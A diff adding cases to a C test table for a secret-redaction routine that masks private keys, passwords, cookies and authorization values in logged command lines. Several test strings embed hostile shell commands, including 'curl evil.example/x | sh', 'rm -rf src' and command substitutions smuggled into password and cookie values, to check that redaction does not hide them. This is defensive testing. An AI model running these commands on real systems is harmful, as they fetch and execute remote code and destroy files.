@@ -4,6 +4,8 @@
 
 #include "countersign/trace.h"
 
+#define LINE "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
+
 /* Arguments are separated by | here. */
 static const struct {
 	const char *argv, *want;
@@ -31,9 +33,33 @@ static const struct {
 	  "ghp_|ghp_short|AKIA|eyJ.eyJ.x|hf_transfer" },
 	{ "eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9" },
 	/* keys */
-	{ "printf|-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
-	  "printf|[redacted key, 74 bytes]\n" },
-	{ "echo|a -----BEGIN RSA PRIVATE KEY-----\nMIIE", "echo|a [redacted key, 36 bytes]" },
+	{ "printf|-----BEGIN OPENSSH PRIVATE KEY-----\n" LINE
+	  "\nQyNTUx==\n-----END OPENSSH PRIVATE "
+	  "KEY-----\n",
+	  "printf|-----BEGIN OPENSSH PRIVATE KEY-----\n[redacted key, 73 bytes]\n-----END OPENSSH "
+	  "PRIVATE KEY-----\n" },
+	{ "echo|a -----BEGIN RSA PRIVATE KEY-----\n" LINE "\n" LINE "\n",
+	  "echo|a -----BEGIN RSA PRIVATE KEY-----\n[redacted key, 129 bytes]\n" },
+	{ "x|{\"k\":\"-----BEGIN PRIVATE KEY-----\\n" LINE "\\nAA==\\n-----END PRIVATE KEY-----\"}",
+	  "x|{\"k\":\"-----BEGIN PRIVATE KEY-----\\n[redacted key, 70 bytes]\\n-----END PRIVATE "
+	  "KEY-----\"}" },
+	{ "x|-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: "
+	  "AES-128-CBC,0A\n\n" LINE "\n",
+	  "x|-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n"
+	  "[redacted key, 64 bytes]\n" },
+	/* that are none: what stands behind the mark stays */
+	{ "sh|-c|: -----BEGIN PRIVATE KEY-----\ncurl evil.example/x | sh",
+	  "sh|-c|: -----BEGIN PRIVATE KEY-----\ncurl evil.example/x | sh" },
+	{ "sh|-c|: -----BEGIN ; rm -rf src; : -----END -----",
+	  "sh|-c|: -----BEGIN ; rm -rf src; : -----END -----" },
+	{ "sh|-c|-----BEGIN PRIVATE KEY-----\n" LINE "\nrm -rf src\n-----END PRIVATE KEY-----",
+	  "sh|-c|-----BEGIN PRIVATE KEY-----\n[redacted key, 64 bytes]\nrm -rf src\n-----END "
+	  "PRIVATE "
+	  "KEY-----" },
+	{ "x|-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED; rm x\n" LINE,
+	  "x|-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED; rm x\n" LINE },
+	{ "x|-----BEGIN CERTIFICATE-----\n" LINE "\n",
+	  "x|-----BEGIN CERTIFICATE-----\n" LINE "\n" },
 	/* names of secrets */
 	{ "mysql|--password=hunter2|db", "mysql|--password=[redacted password, 7 bytes]|db" },
 	{ "env|PGPASSWORD=x y", "env|PGPASSWORD=[redacted password, 1 bytes] y" },
@@ -88,6 +114,17 @@ static const struct {
 	{ "sh|-c|PASSWORD=`id` make", "sh|-c|PASSWORD=`id` make" },
 	{ "sh|-c|PASSWORD=$(id) make", "sh|-c|PASSWORD=$(id) make" },
 	{ "sh|-c|PASSWORD='a b' make", "sh|-c|PASSWORD='[redacted password, 3 bytes]' make" },
+	{ "sh|-c|: 'TOKEN='; rm -rf src; ':'", "sh|-c|: 'TOKEN='; rm -rf src; ':'" },
+	{ "sh|-c|x=\"password=a$(rm x)\"",
+	  "sh|-c|x=\"password=[redacted password, 1 bytes]$(rm x)\"" },
+	{ "sh|-c|PASSWORD=\"a`rm x`\"", "sh|-c|PASSWORD=\"[redacted password, 1 bytes]`rm x`\"" },
+	{ "sh|-c|Cookie: x; curl evil|sh",
+	  "sh|-c|Cookie: [redacted cookie, 1 bytes]; curl evil|sh" },
+	{ "sh|-c|curl -H 'Cookie: a=b; c=d' u",
+	  "sh|-c|curl -H 'Cookie: [redacted cookie, 8 bytes]' u" },
+	{ "sh|-c|: Cookie: a=b; c=d rm x", "sh|-c|: Cookie: [redacted cookie, 8 bytes] rm x" },
+	{ "sh|-c|: Authorization: a; rm x",
+	  "sh|-c|: Authorization: [redacted credential, 1 bytes]; rm x" },
 	/* nothing to do */
 	{ "", "" },
 	{ "|", "|" },
